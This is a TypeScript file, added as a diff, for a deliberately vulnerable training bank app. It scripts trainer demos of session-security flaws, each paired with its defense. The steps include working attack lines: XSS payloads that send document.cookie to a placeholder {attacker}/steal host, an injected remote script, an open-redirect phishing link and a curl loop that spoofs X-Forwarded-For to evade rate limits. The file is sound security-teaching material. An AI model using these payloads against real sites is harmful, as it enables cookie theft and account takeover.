@@ -1,0 +1,184 @@
+// What the lab console shows a trainer for each flaw: the demo, for two browser windows — the
+// victim's (a normal window) and the attacker's (a private window, its own cookies) — and what
+// the room should see. {bank} and {attacker} stand for the two addresses `npm run lab` printed;
+// the console's time-travel buttons stand in for the minutes and hours a demo cannot wait.
+// The full scripts, with the fix and the test that proves it, are in docs/trainer-guide.md.
+import type { FlawName } from "./flaws";
+
+export type Demo = {
+  steps: readonly string[];
+  /** The attack's result with the flaw on, then with the defense in place. */
+  expected: string;
+};
+
+/** A well-formed session ID (43 URL-safe characters) for the fixation demo to plant. */
+export const PLANTED_ID = "MalloryPlantedThisSessionId_0123456789abcde";
+
+const COPY_COOKIE = "Victim: sign in as alice@vaultline.test, then copy the vaultline.session cookie (DevTools → Application → Cookies): the copy a thief got from a proxy log, a backup or malware.";
+const USE_COPY = "Attacker: in DevTools → Application → Cookies for {bank}, set vaultline.session to the copy and open {bank}/dashboard: Alice's accounts.";
+
+export const DEMOS: Record<FlawName, Demo> = {
+  fixation: {
+    steps: [
+      `Victim: before signing in, set the vaultline.session cookie for {bank} to ${PLANTED_ID} (what a planted link, a sibling subdomain or an XSS achieves), then sign in as alice@vaultline.test.`,
+      `Attacker: set the same cookie, ${PLANTED_ID}, in the private window and open {bank}/dashboard.`,
+    ],
+    expected: "Flaw on: the attacker is in Alice's accounts with the ID she chose. Defense: sign-in issued a new ID; the planted one opens nothing.",
+  },
+  "no-server-logout": {
+    steps: [COPY_COOKIE, USE_COPY, "Victim: Sign out.", "Attacker: reload the dashboard."],
+    expected: "Flaw on: the copy still opens Alice's accounts after she signed out. Defense: the session ended on the server; the copy lands on the sign-in page.",
+  },
+  "readable-cookie": {
+    steps: [
+      "Victim: sign in as alice@vaultline.test (after switching: HttpOnly is decided when the cookie is issued).",
+      "Victim: in the DevTools console run document.cookie, which is what any injected script runs.",
+      'Victim: send it to the attacker as an XSS payload would (switch no-csp on too, or the CSP blocks the request): new Image().src = "{attacker}/steal?c=" + encodeURIComponent(document.cookie)',
+      "Attacker: the inbox below shows the cookie; set it in the private window and open {bank}/dashboard.",
+    ],
+    expected: "Flaw on: document.cookie shows vaultline.session, it arrives in the inbox, and the attacker is Alice. Defense: the session cookie is invisible to script; nothing to steal.",
+  },
+  "no-cache-control": {
+    steps: [
+      "Victim (on a shared computer): sign in as alice@vaultline.test, look at the dashboard, then Sign out.",
+      "Attacker (the next person at that computer, same window): press Back.",
+    ],
+    expected: "Flaw on: Back shows Alice's balances from the browser's cache (Cache-Control: private, max-age=600). Defense: no-store; Back shows no balances.",
+  },
+  "no-rotation-on-step-up": {
+    steps: [
+      COPY_COOKIE,
+      USE_COPY,
+      "Trainer: press “Sign-ins past step-up freshness” below: a transfer now needs the password again.",
+      "Attacker: start a transfer: it asks for a password she does not know.",
+      "Victim: send a transfer and confirm it with the password (alice-demo-pass-1).",
+      "Attacker: send 900.00 to Mallory's account VL-1003-0001.",
+    ],
+    expected: "Flaw on: the attacker's transfer goes through without the password: her copy shares the victim's fresh step-up. Defense: the step-up issued a new ID; the copy is dead.",
+  },
+  "no-reuse-detection": {
+    steps: [
+      COPY_COOKIE,
+      USE_COPY,
+      "Trainer: press “Sign-ins past step-up freshness”; Victim: send a transfer and confirm it with the password (the session moves to a new ID).",
+      "Attacker: reload the dashboard with the old ID.",
+    ],
+    expected: "Flaw on: the rotated-out ID still opens the accounts and nobody is told. Defense: the reuse ends the whole session family (the victim is signed out too) and a security event says why.",
+  },
+  "no-idle-timeout": {
+    steps: [
+      "Victim: sign in as alice@vaultline.test, close the tab (not the window: an open tab's warning would sign out at zero) and walk away.",
+      "Trainer: press “Every session idle past the high tier” below.",
+      "Attacker (at the victim's computer): open {bank}/transfers.",
+    ],
+    expected: "Flaw on: the transfer page opens; only the browser's warning knew about the inactivity. Defense: signed out “after 15 minutes of inactivity” (the dashboard, a 30-minute page, would still open).",
+  },
+  "no-absolute-timeout": {
+    steps: [
+      "Victim: sign in as alice@vaultline.test (the thief keeps this session busy).",
+      "Trainer: press “Sign-ins past the absolute lifetime”.",
+      "Victim: reload the dashboard.",
+    ],
+    expected: "Flaw on: a 13-hour-old session still works. Defense: signed out at the 12-hour absolute lifetime, however busy the session was.",
+  },
+  "no-revoke-on-password-change": {
+    steps: [
+      COPY_COOKIE,
+      USE_COPY,
+      "Victim: Security → Change password (current alice-demo-pass-1; Reset restores it).",
+      "Attacker: reload the dashboard.",
+    ],
+    expected: "Flaw on: the attacker's copy keeps working after the victim changed the password. Defense: every other session ended at once; the copy lands on the sign-in page.",
+  },
+  "concurrent-admin": {
+    steps: [
+      "Attacker (a stolen admin session): sign in as admin@vaultline.test (admin-demo-pass-1), Profile → Admin panel, confirm the password.",
+      "Victim (the real admin): sign in as admin@vaultline.test and open the Admin panel.",
+      "Attacker: reload the admin panel.",
+    ],
+    expected: "Flaw on: both admin panels stay open, the stolen one unnoticed. Defense (newest-wins): the attacker's elevated session ends and is told why.",
+  },
+  "weak-token": {
+    steps: [
+      "Attacker: sign in as mallory@vaultline.test and copy your own vaultline.session cookie; decode it as base64url (any online decoder, or atob in the console after swapping - for + and _ for /).",
+      "Victim: sign in as alice@vaultline.test, and say roughly when.",
+      "Attacker: write alice@vaultline.test in place of your email and the seconds of her sign-in in place of yours, encode it back, and try each candidate second as the cookie on {bank}/dashboard.",
+    ],
+    expected: "Flaw on: the ID is the email and the time; a few guesses open Alice's accounts. Defense: 256 random bits; nothing in one ID says anything about another.",
+  },
+  "token-in-url": {
+    steps: [
+      "Victim: sign in as alice@vaultline.test (after switching) and open an account from the dashboard: every link now carries ?sid=.",
+      "Victim: copy the address bar and paste it to the attacker, as into a support chat or a bug report.",
+      "Attacker: open the pasted link in the private window, with no cookie of the bank at all.",
+    ],
+    expected: "Flaw on: the link alone opens Alice's account. Defense: the ID travels only in the cookie; no link carries it, and an ID in the address opens nothing.",
+  },
+  csrf: {
+    steps: [
+      "Victim: sign in as alice@vaultline.test (after switching: the cookie's SameSite is decided when it is issued).",
+      "Victim: in a new tab, open the attacker's prize page, {attacker}/prize (it submits a forged sign-out as it loads).",
+      "Victim: go back to the bank tab and reload.",
+    ],
+    expected: "Flaw on: the other site's page signed Alice out (and could keep an idle session alive); a forged transfer still fails on Next.js's own server-action origin check. Defense: a write from another origin is refused with 403 before anything runs, and SameSite=Strict keeps the cookie off it.",
+  },
+  "stored-xss": {
+    steps: [
+      "Attacker: sign in as mallory@vaultline.test and send Alice $1.00 with a memo of markup, e.g. <b>refund</b> or the refresh payload from docs/trainer-guide.md.",
+      "Victim: sign in as alice@vaultline.test and open the checking account's history.",
+      "Switch no-csp and readable-cookie on too, and send a memo whose markup sends document.cookie to the attacker (an <img>'s handler runs wherever the markup lands; a <script> only in a page's first HTML): <img src=x onerror=\"new Image().src='{attacker}/steal?c='+encodeURIComponent(document.cookie)\">. Watch the inbox.",
+    ],
+    expected: "Flaw on: the memo renders as markup (under the CSP, a refresh still carries the page to the attacker; without it and HttpOnly, the cookie arrives in the inbox). Defense: memos are text; the markup shows as typed.",
+  },
+  "no-login-throttle": {
+    steps: [
+      "Attacker: sign in as bob@vaultline.test with five wrong passwords.",
+      "Attacker: then with the right one, bob-demo-pass-1 (the tenth guess of a password list).",
+    ],
+    expected: "Flaw on: every guess is checked and the right one gets in. Defense: after 5 failures the email is locked for 15 minutes, and even the right password gets the same refusal.",
+  },
+  "tier-reopen": {
+    steps: [
+      "Victim: sign in as alice@vaultline.test, close the tab (not the window) and walk away.",
+      "Trainer: press “Every session idle past the high tier”.",
+      "Attacker (at the victim's computer): open {bank}/profile (a 60-minute page), then {bank}/security (15 minutes).",
+    ],
+    expected: "Flaw on: the profile visit reset the idle clock and the security settings open. Defense: the gap closed the high tier for the rest of the session; /security signs out for inactivity.",
+  },
+  "attempt-race": {
+    steps: [
+      "Explain: Mallory has a stolen session but not the password, and step-up allows 5 guesses.",
+      "Run the attack, which sends 14 wrong guesses at once and then the real password: npx playwright test e2e/attacks/attempt-race.spec.ts --no-deps",
+    ],
+    expected: "Flaw on: every concurrent guess is checked before any is counted and the real password is confirmed. Defense: exactly 5 are checked; every other answer is the same refusal.",
+  },
+  "open-redirect": {
+    steps: [
+      "Victim: open the phishing mail's link, the genuine sign-in page: {bank}/signin?next={attacker}/phish",
+      "Victim: sign in as alice@vaultline.test, then type the password again where asked.",
+    ],
+    expected: "Flaw on: after a genuine sign-in the victim lands on the attacker's look-alike, and the password typed there arrives in the inbox. Defense: the victim lands on the bank's own dashboard.",
+  },
+  "spoofable-ip": {
+    steps: [
+      "Attacker: 25 failed sign-ins from one machine, each claiming a new address (unknown emails, so only the per-address limit can stop them):",
+      `for i in $(seq 25); do curl -s -o /dev/null -w "%{http_code} " -H "X-Forwarded-For: 203.0.113.$i" -H "Content-Type: application/json" -d "{\\"email\\":\\"nobody$i@vaultline.test\\",\\"password\\":\\"guess\\"}" {bank}/api/v1/sessions; done`,
+      "Attacker: then the stolen password: curl -s -H 'Content-Type: application/json' -d '{\"email\":\"bob@vaultline.test\",\"password\":\"bob-demo-pass-1\"}' {bank}/api/v1/sessions",
+    ],
+    expected: "Flaw on: every try counts against a different address: all 401, then 201 and a token. Defense: the address is the socket's: after 20 failures everything is 429, the right password included.",
+  },
+  "no-csp": {
+    steps: [
+      "Victim: sign in as alice@vaultline.test.",
+      'Victim: inject a script as an XSS would, in the DevTools console: document.body.append(Object.assign(document.createElement("script"), { src: "{attacker}/hook.js" }))',
+    ],
+    expected: "Flaw on: the script loads and reports the page (and, with readable-cookie, the cookie) to the inbox. Defense: the browser refuses the script (a CSP violation in the console); nothing arrives.",
+  },
+  clickjacking: {
+    steps: [
+      "Victim: sign in as alice@vaultline.test.",
+      "Victim: open the attacker's prize page on the same site but another port: http://localhost:{attackerPort}/frame",
+    ],
+    expected: "Flaw on: the signed-in dashboard shows through the decoy and the victim's clicks land on the bank. Defense: the browser refuses to frame the bank.",
+  },
+};
